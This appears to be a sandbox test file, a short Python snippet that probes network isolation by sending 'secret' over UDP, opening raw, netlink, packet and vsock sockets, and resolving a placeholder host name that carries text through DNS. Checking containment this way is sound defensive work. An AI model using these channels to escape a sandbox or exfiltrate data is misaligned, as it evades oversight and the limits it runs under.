# title: packets, and host names that carry text to a name server
# source: plausible
# question: softmax
# stopped by: network
# peers: no (it asks a name server)
# %% first
import ctypes, socket
for name, way in {
    "udp": lambda: socket.socket(type=socket.SOCK_DGRAM).sendto(b"secret", ("127.0.0.1", int("@PORT@"))),
    "raw": lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, 1),
    "netlink": lambda: socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0),
    "packet": lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW),
    "vsock": lambda: socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM),
    "names": lambda: socket.getaddrinfo("secret.example.invalid", 80),
}.items():
    try:
        way()
        print("THROUGH", name)
    except OSError as problem:
        print(name, type(problem).__name__)
